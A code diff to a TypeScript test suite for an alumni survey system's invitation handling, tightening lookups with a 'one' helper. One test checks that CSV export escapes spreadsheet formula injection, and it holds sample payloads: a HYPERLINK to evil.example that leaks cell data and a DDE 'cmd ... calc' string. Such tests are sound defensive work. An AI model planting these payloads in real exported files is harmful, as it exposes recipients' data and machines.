@@ -3,7 +3,7 @@ import { eq, sql } from "drizzle-orm";
 import { beforeEach, describe, expect, it } from "vitest";
 import type { Db } from "@/db/client";
 import { alumni, auditLog, invitations, outbox, responses } from "@/db/schema";
-import { col, queryRows } from "@/db/query";
+import { col, one, queryRows } from "@/db/query";
 import { blindToken, finalizeToken, fromBase64, prepareToken, toBase64 } from "@/server/shared/anonymity/client";
 import { issueForInvitation } from "../anonymity/issue";
 import { publicKeysFor } from "../anonymity/targetkeys";
@@ -29,7 +29,7 @@ import {
 import { freshSchool, type School, sessionOf } from "../test/fixtures";
 import { createInvitations, exportInvitationLinks, invitationToken, resolveInvitation, sendInvitations } from "./invitations";
 import { expectDomainError } from "../test/errors";
-import { at } from "@/server/shared/indexed";
+import { at, atKey } from "@/server/shared/indexed";
 
 let db: Db;
 let s: School;
@@ -130,7 +130,7 @@ describe("createInvitations", () => {
 describe("resolveInvitation and issueForInvitation", () => {
   let g: Awaited<ReturnType<typeof graduateCampaign>>;
   let inv: Awaited<ReturnType<typeof invitationsOf>>;
-  const of = (a: { id: number }) => inv.find((i) => i.alumnusId === a.id)!;
+  const of = (a: { id: number }) => one(inv.filter((i) => i.alumnusId === a.id));
 
   beforeEach(async () => {
     g = await graduateCampaign(db, s);
@@ -189,7 +189,7 @@ describe("resolveInvitation and issueForInvitation", () => {
   it("employer contacts' answers are stored as the employer group's with the employer instrument", async () => {
     const e = await employerCampaign(db, s, t);
     await createInvitations(db, e.id, SECRET);
-    const c1 = (await invitationsOf(db, e.id)).find((i) => i.contactId === t.c1.id)!;
+    const c1 = one((await invitationsOf(db, e.id)).filter((i) => i.contactId === t.c1.id));
     const r = await resolveInvitation(db, tokenOf(c1), DURING);
     expect(r).toMatchObject({ campaignId: e.id, versionId: e.versionId, targetLabel: "甲科技有限公司", state: "ready" });
     expect(await submit(db, await invitationTokenFor(db, c1.id), { declined: true })).toEqual({ status: "stored" });
@@ -201,7 +201,7 @@ describe("resolveInvitation and issueForInvitation", () => {
 
   it("concurrent issuance for one link gives exactly one signature", async () => {
     const i1 = of(t.a1);
-    const pk = (await publicKeysFor(db, [i1.targetId])).get(i1.targetId)!;
+    const pk = atKey(await publicKeysFor(db, [i1.targetId]), i1.targetId);
     const attempts = await Promise.all(
       [1, 2, 3, 4].map(async () => {
         const token = prepareToken();
@@ -277,7 +277,8 @@ describe("sendInvitations", () => {
     for (const r of rows) {
       const i = inv.find((x) => r.body.includes(`{{link:${x.nonce}}}`));
       expect(i, r.recipient).toBeDefined();
-      expect(r.body).not.toContain(tokenOf(i!));
+      if (i === undefined) throw new Error(`no invitation's link in the mail to ${r.recipient}`);
+      expect(r.body).not.toContain(tokenOf(i));
       expect(r.body).not.toContain("/i/");
       expect(r.subject).toBe(g.name);
     }
@@ -287,8 +288,8 @@ describe("sendInvitations", () => {
         .map((i) => i.alumnusId)
         .sort(),
     ).toEqual([t.a1.id, t.a2.id, t.a4.id, t.b1.id].sort());
-    expect(inv.find((i) => i.alumnusId === t.a1.id)!.sentOn).toBe("2026-12-28");
-    expect(inv.find((i) => i.alumnusId === t.a3.id)!.sentOn).toBeNull();
+    expect(inv.find((i) => i.alumnusId === t.a1.id)?.sentOn).toBe("2026-12-28");
+    expect(one(inv.filter((i) => i.alumnusId === t.a3.id)).sentOn).toBeNull();
 
     expect(await sendInvitations(db, await quality(), g.id, SECRET, LATER)).toEqual({ created: 0, total: 5, queued: 0, noContact: 1 });
     expect(await outboxRows()).toHaveLength(4);
@@ -311,7 +312,7 @@ describe("sendInvitations", () => {
   it("a link already used is not sent", async () => {
     const g = await graduateCampaign(db, s);
     await createInvitations(db, g.id, SECRET);
-    const i1 = (await invitationsOf(db, g.id)).find((i) => i.alumnusId === t.a1.id)!;
+    const i1 = one((await invitationsOf(db, g.id)).filter((i) => i.alumnusId === t.a1.id));
     await invitationTokenFor(db, i1.id);
     expect(await sendInvitations(db, await quality(), g.id, SECRET, DURING)).toMatchObject({ queued: 3 });
     expect((await outboxRows()).map((r) => r.recipient)).not.toContain("a1@alumni.example.com");
@@ -384,7 +385,7 @@ describe("exportInvitationLinks", () => {
     const g = await graduateCampaign(db, s);
     await sendInvitations(db, await quality(), g.id, SECRET, DURING);
     const inv = await invitationsOf(db, g.id);
-    await invitationTokenFor(db, inv.find((i) => i.alumnusId === t.b1.id)!.id);
+    await invitationTokenFor(db, one(inv.filter((i) => i.alumnusId === t.b1.id)).id);
     const csv = await exportInvitationLinks(db, await quality(), g.id, SECRET, `${BASE_URL}/`);
     expect(csv.startsWith("\uFEFF")).toBe(true);
     const [header, ...rows] = parseCsv(csv.slice(1));
@@ -392,7 +393,7 @@ describe("exportInvitationLinks", () => {
     expect(rows).toHaveLength(inv.length);
     const byName = new Map(rows.map((r) => [r[1], r]));
     expect([...byName.keys()].sort()).toEqual([t.a1, t.a2, t.a3, t.a4, t.b1].map((a) => a.name).sort());
-    expect(byName.get(t.a1.name)!.slice(0, 6)).toEqual([
+    expect(byName.get(t.a1.name)?.slice(0, 6)).toEqual([
       "毕业生",
       "校友甲",
       "软件工程 2026届",
@@ -404,8 +405,8 @@ describe("exportInvitationLinks", () => {
       const [kind, name, , , , , link, sent, used] = r;
       if (link === undefined) throw new Error(`a row of ${r.length} columns`);
       expect(kind).toBe("毕业生");
-      const alumnus = [t.a1, t.a2, t.a3, t.a4, t.b1].find((a) => a.name === name)!;
-      const i = inv.find((x) => x.alumnusId === alumnus.id)!;
+      const alumnus = one([t.a1, t.a2, t.a3, t.a4, t.b1].filter((a) => a.name === name));
+      const i = one(inv.filter((x) => x.alumnusId === alumnus.id));
       expect(sent).toBe(alumnus.id === t.a3.id ? "" : "2026-12-28");
       if (alumnus.id === t.b1.id) {
         expect([link, used]).toEqual(["", "是"]);
@@ -431,10 +432,10 @@ describe("exportInvitationLinks", () => {
     const g = await graduateCampaign(db, s);
     await createInvitations(db, g.id, SECRET);
     const rows = parseCsv((await exportInvitationLinks(db, await quality(), g.id, SECRET, BASE_URL)).slice(1));
-    const row1 = rows.find((r) => at(r, 1).includes("HYPERLINK"))!;
+    const row1 = one(rows.filter((r) => at(r, 1).includes("HYPERLINK")));
     expect(row1[1]).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"点我")`);
     expect(row1[5]).toBe("'@cmd");
-    const row4 = rows.find((r) => at(r, 1).includes("calc"))!;
+    const row4 = one(rows.filter((r) => at(r, 1).includes("calc")));
     expect(row4[1]).toBe("'-2+3+cmd|' /C calc'!A0");
     expect(row4[4]).toBe("+86 138-0000-0004");
   });
